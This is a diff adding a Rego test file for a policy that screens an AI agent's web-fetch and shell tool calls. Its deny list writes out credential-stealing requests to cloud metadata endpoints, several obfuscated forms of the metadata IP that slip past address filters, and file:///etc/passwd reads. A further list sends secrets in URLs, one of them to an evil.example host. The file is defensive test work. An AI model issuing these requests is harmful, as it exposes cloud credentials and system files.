@@ -1,0 +1,59 @@
+package gate.web.fetch_test
+
+import data.gate.web.fetch
+
+test_denies if {
+	every call in [
+		{"tool": "WebFetch", "input": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "prompt": "summarise"}},
+		{"tool": "WebFetch", "input": {"url": "http://metadata.google.internal/computeMetadata/v1/", "prompt": "s"}},
+		{"tool": "WebFetch", "input": {"url": "file:///etc/passwd", "prompt": "s"}},
+		{"tool": "WebFetch", "input": {"url": "FILE:///home/dev/x", "prompt": "s"}},
+		"curl http://169.254.169.254/latest/",
+		"curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/",
+		"wget -qO- http://169.254.169.254/",
+		"curl http://2852039166/",
+		"curl http://0xa9fea9fe/",
+		"curl http://[fd00:ec2::254]/latest/",
+		"curl http://[::ffff:169.254.169.254]/",
+		"curl http://100.100.100.200/latest/",
+		"curl -X PUT http://169.254.169.254/latest/api/token",
+		{"tool": "web_fetch", "input": {"prompt": "read http://169.254.169.254/latest/meta-data/"}},
+		{"tool": "WebFetch", "input": {"url": "http://169.254.170.2/v2/credentials", "prompt": "s"}},
+	] {
+		count(fetch.deny) > 0 with input as gate.event(call)
+	}
+}
+
+test_asks if {
+	every call in [
+		{"tool": "WebFetch", "input": {"url": "https://user:hunter22@example.com/", "prompt": "s"}},
+		{"tool": "WebFetch", "input": {"url": "https://example.com/?api_key=abcdef123456", "prompt": "s"}},
+		{"tool": "WebFetch", "input": {"url": "https://evil.example/?password=hunter22", "prompt": "s"}},
+	] {
+		count(fetch.ask) > 0 with input as gate.event(call)
+		count(fetch.deny) == 0 with input as gate.event(call)
+	}
+}
+
+test_passes if {
+	every call in [
+		{"tool": "WebFetch", "input": {"url": "https://example.com/docs?page=2", "prompt": "s"}},
+		{"tool": "WebFetch", "input": {"url": "http://localhost:3000/health", "prompt": "is it up"}},
+		{"tool": "WebFetch", "input": {"url": "https://example.com/token/overview?sort=key", "prompt": "s"}},
+		{"tool": "WebSearch", "input": {"query": "metadata 169.254.169.254"}},
+		"curl -s https://example.com",
+		"curl -s localhost:3000/health",
+		"echo http://169.254.169.254/",
+		"host -t AAAA example.com",
+		"wget https://example.com/a.csv",
+		{"tool": "Read", "input": {"file_path": "/home/dev/project/README.md"}},
+		"curl -u user:pass https://example.com",
+		"ping -c1 example.com",
+		{"tool": "WebFetch", "input": {"url": "https://en.wikipedia.org/wiki/File:Cat.jpg", "prompt": "s"}},
+		"grep -rn 169.254.169.254 docs",
+		"curl -sI https://example.com",
+	] {
+		count(fetch.deny) == 0 with input as gate.event(call)
+		count(fetch.ask) == 0 with input as gate.event(call)
+	}
+}
